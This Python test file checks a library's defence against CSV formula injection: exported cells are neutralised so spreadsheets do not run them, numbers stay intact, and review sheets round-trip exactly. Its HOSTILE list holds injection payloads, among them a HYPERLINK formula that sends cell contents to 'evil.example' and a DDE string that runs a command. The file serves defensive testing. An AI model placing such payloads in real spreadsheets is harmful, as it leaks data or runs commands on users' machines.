"""CSV for spreadsheets: no cell a spreadsheet would run as a formula, numbers intact, and a
review sheet read back gives exactly the ids and categories it was written with."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from sweeplab.analysis import (
    csv_rows,
    error_table,
    merge_review,
    neutralise_cell,
    restore_cell,
    review_template,
    spreadsheet_csv,
)
from sweeplab.analysis._spreadsheet import FORMULA_STARTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+cmd",
    "-2+3",
    "\t=1",
    "\r=1",
    "  =1+1",
    "'=quoted already",
    "'plain",
    "plain",
    "",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _is_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula start that is not a plain number."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ").startswith(FORMULA_STARTS)
    return False


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_is_neutralised_and_restored_exactly(value):
    safe = neutralise_cell(value)
    assert not _is_formula(safe)
    assert restore_cell(safe) == value


@pytest.mark.parametrize("value", [-1, -0.5, 3, 2.5e-7, True, None, "-0.5", "-1e-3", "+7"])
def test_numbers_stay_numbers(value):
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_a_frame_written_for_a_spreadsheet_has_no_formula_cell_and_keeps_its_numbers():
    frame = pd.DataFrame(
        {
            "=label": HOSTILE,
            "count": np.arange(len(HOSTILE)) - 5,  # negative numbers stay numbers
            "error": np.linspace(-1.0, 1.0, len(HOSTILE)),
            "cat": pd.Categorical(["@a", "b"] * (len(HOSTILE) // 2)),
        },
        index=pd.Index([f"-id{i}" for i in range(len(HOSTILE))], name="@id"),
    )
    for index in (False, True):
        rows = _cells(spreadsheet_csv(frame, index=index))
        assert all(not _is_formula(c) for row in rows for c in row)
        counts = [int(r[-3]) for r in rows[1:]]
        errors = [float(r[-2]) for r in rows[1:]]
        assert counts == frame["count"].tolist()
        assert errors == pytest.approx(frame["error"].tolist())
    assert frame["=label"].tolist() == HOSTILE  # the caller's frame is untouched


def test_csv_rows_neutralise_every_cell():
    rows = _cells(csv_rows(["=a", "b"], [[v, -3] for v in HOSTILE]))
    assert all(not _is_formula(c) for row in rows for c in row)
    assert [r[1] for r in rows[1:]] == ["-3"] * len(HOSTILE)


@pytest.mark.parametrize("spreadsheet_keeps_quote", [True, False])
def test_a_review_sheet_round_trips_its_ids_labels_and_categories(
    tmp_path, spreadsheet_keeps_quote
):
    ids = ["=HYPERLINK(1)", "@x", "-neg", "'q", " +y", "plain"]
    labels = ["=SUM(1)", "@cls", "=SUM(1)", "@cls", "=SUM(1)", "@cls"]
    preds = ["@cls", "=SUM(1)", "@cls", "=SUM(1)", "@cls", "=SUM(1)"]  # every example an error
    table = error_table(ids, labels, preds)
    sheet = review_template(table, categories=("=cat", "@other"))
    path = tmp_path / "review.csv"
    path.write_text(spreadsheet_csv(sheet), encoding="utf-8")
    rows = _cells(path.read_text(encoding="utf-8"))
    assert all(not _is_formula(c) for row in rows for c in row)

    # a person marks the first two rows "=cat" and saves; a spreadsheet may or may not keep
    # the leading quote when it saves text cells
    def saved(cell: str) -> str:
        return cell if spreadsheet_keeps_quote else restore_cell(cell)

    header, body = rows[0], rows[1:]
    body[0][header.index("'=cat")] = body[1][header.index("'=cat")] = "x"
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([[saved(c) for c in row] for row in [header, *body]])

    merged = merge_review(table, filled.read_bytes(), source=str(filled))
    assert merged.categories[-2:] == ("=cat", "@other")
    marked = merged.rows.index[merged.rows["=cat"].fillna(False).astype(bool)].tolist()
    assert marked == sheet["id"].tolist()[:2]
    assert set(merged.rows.index) == set(ids)
